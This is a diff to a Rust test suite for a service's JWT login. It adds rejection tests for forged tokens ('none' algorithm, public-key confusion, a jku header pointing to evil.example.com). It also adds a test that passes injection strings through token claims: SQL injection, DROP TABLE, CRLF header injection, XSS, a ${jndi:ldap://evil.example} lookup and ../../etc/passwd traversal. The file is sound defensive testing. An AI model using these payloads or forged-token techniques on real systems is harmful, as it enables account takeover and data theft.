@@ -5,15 +5,16 @@ use crate::live::identity::Identity;
 use reqwest::{Method, Response};
 use serde_json::{Value, json};
 
-struct Stage {
-    hub: Hub,
-    identity: Identity,
-    owner: SignedIn,
-    path: String,
+/// A hub, and an issuer that it trusts.
+pub(in crate::api) struct Stage {
+    pub(in crate::api) hub: Hub,
+    pub(in crate::api) identity: Identity,
+    pub(in crate::api) owner: SignedIn,
+    pub(in crate::api) path: String,
 }
 
 impl Stage {
-    async fn set(with: Value) -> Self {
+    pub(in crate::api) async fn set(with: Value) -> Self {
         let hub = hub().await;
         let identity = Identity::start().await;
         let owner = hub.owner().await;
@@ -35,7 +36,7 @@ impl Stage {
         }
     }
 
-    fn claims(&self) -> Value {
+    pub(in crate::api) fn claims(&self) -> Value {
         let now = self.hub.clock.now().unix_timestamp();
         json!({
             "iss": self.identity.issuer, "aud": "project-7", "sub": "u-1", "iat": now, "exp": now + 600,
@@ -43,12 +44,12 @@ impl Stage {
         })
     }
 
-    async fn good(&mut self) -> String {
+    pub(in crate::api) async fn good(&mut self) -> String {
         let claims = self.claims();
         self.identity.token(claims, json!({}), "").await
     }
 
-    async fn ask(&self, token: &str, path: &str) -> Response {
+    pub(in crate::api) async fn ask(&self, token: &str, path: &str) -> Response {
         self.hub
             .ask(Method::GET, path)
             .bearer_auth(token)
@@ -161,6 +162,38 @@ async fn a_token_that_is_not_right_in_every_point_opens_nothing() {
         ("without a subject", with("sub", json!("")), json!({}), ""),
         ("by a stranger", base.clone(), json!({}), "stranger"),
         ("by what everybody knows", base.clone(), json!({}), "public key"),
+        ("by the same as PEM", base.clone(), json!({}), "public pem"),
+        ("by none", base.clone(), json!({}), "none"),
+        (
+            "by the provider's key for ID tokens",
+            base.clone(),
+            json!({}),
+            "provider",
+        ),
+        (
+            "with the signature of another one",
+            base.clone(),
+            json!({}),
+            "another body",
+        ),
+        (
+            "of an algorithm that is not on the list",
+            base.clone(),
+            json!({}),
+            "provider rsa",
+        ),
+        (
+            "by a key that it brings along",
+            base.clone(),
+            json!({"jku": "https://evil.example.com/keys", "kid": "evil"}),
+            "stranger",
+        ),
+        (
+            "of another issuer",
+            with("iss", json!("https://evil.example.com")),
+            json!({}),
+            "",
+        ),
         ("of another type", base.clone(), json!({"typ": "logout+jwt"}), ""),
         ("by an unknown key", base.clone(), json!({"kid": "unknown"}), ""),
     ] {
@@ -263,4 +296,70 @@ async fn whoever_nobody_knows_is_told_so_where_nobody_is_added() {
             .await,
         1
     );
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn what_a_token_says_is_a_text_whatever_it_looks_like() {
+    let mut stage = Stage::set(json!({})).await;
+    for (n, text) in [
+        "' OR '1'='1",
+        "'; DROP TABLE users; --",
+        "a\r\nX-Injected: yes",
+        "\0",
+        "\u{202e}<script>alert(1)</script>",
+        "{{7*7}}${jndi:ldap://evil.example}",
+        "../../etc/passwd",
+    ]
+    .iter()
+    .enumerate()
+    {
+        let mut claims = stage.claims();
+        claims["sub"] = json!(format!("{n}{text}"));
+        claims["name"] = json!(format!("Person {text}"));
+        claims["role"] = json!(text);
+        claims["email"] = json!(format!("{n}@example.com"));
+        let token = stage.identity.token(claims.clone(), json!({}), "").await;
+        let answer = stage.ask(&token, "/me").await;
+        assert!(answer.headers().get("x-injected").is_none(), "{text:?}");
+        let status = answer.status();
+        assert!(
+            status.is_success() || status.is_client_error(),
+            "{text:?}: {status}"
+        );
+        if status.is_success() {
+            let me: Value = answer.json().await.unwrap();
+            assert_eq!(me["user"]["email"], format!("{n}@example.com"));
+        }
+        // the same in what chooses the key, and in the address
+        for (field, value) in [("kid", json!(text)), ("typ", json!(text))] {
+            let token = stage
+                .identity
+                .token(claims.clone(), json!({field: value}), "stranger")
+                .await;
+            assert_eq!(
+                problem(stage.ask(&token, "/me").await).await.0,
+                401,
+                "{field} {text:?}"
+            );
+        }
+        // nor does anybody need a key to say who is to be asked
+        let mut issued = claims.clone();
+        issued["iss"] = json!(text);
+        let token = stage.identity.token(issued, json!({}), "stranger").await;
+        assert_eq!(
+            problem(stage.ask(&token, "/me").await).await.0,
+            401,
+            "iss {text:?}"
+        );
+        claims["sub"] = json!(format!("{n} again"));
+        claims["email"] = json!(format!("{text}@example.com"));
+        let token = stage.identity.token(claims, json!({}), "").await;
+        let status = stage.ask(&token, "/me").await.status();
+        assert!(
+            status.is_success() || status.is_client_error(),
+            "{text:?}: {status}"
+        );
+    }
+    let people = stage.hub.test.count("SELECT count(*) FROM users").await;
+    assert!(people > 1, "{people}");
 }
